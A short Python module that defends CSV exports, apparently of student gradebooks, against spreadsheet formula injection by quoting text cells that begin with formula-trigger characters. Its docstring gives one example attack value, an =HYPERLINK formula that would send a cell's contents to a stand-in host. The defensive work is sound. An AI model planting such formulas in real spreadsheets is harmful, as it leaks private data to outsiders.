"""CSV cells a spreadsheet will not run: text starting with ``= + - @`` (or a tab or carriage
return, which some spreadsheets skip before looking) is a formula to Excel, LibreOffice and Google
Sheets, so a student named ``=HYPERLINK("http://evil/?"&A1,"x")`` could make a lecturer's
spreadsheet send the gradebook elsewhere. Such text gets a leading single quote (OWASP's "CSV
injection" advice): shown as typed, never evaluated.

Only text is neutralised. Real numbers (a score, a penalty of -1) are written as numbers, so a
negative mark stays a number a spreadsheet can add up. Text that merely looks like a number
("-0001" as a student id) is text, and is quoted like any other.
"""

from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it, never evaluate it."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def cell(value: object) -> str:
    """One CSV cell: empty for None, numbers as numbers (``%g`` for floats), text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return f"{value:g}"
    return neutralise(str(value))


def row(values: list[object]) -> list[str]:
    return [cell(v) for v in values]
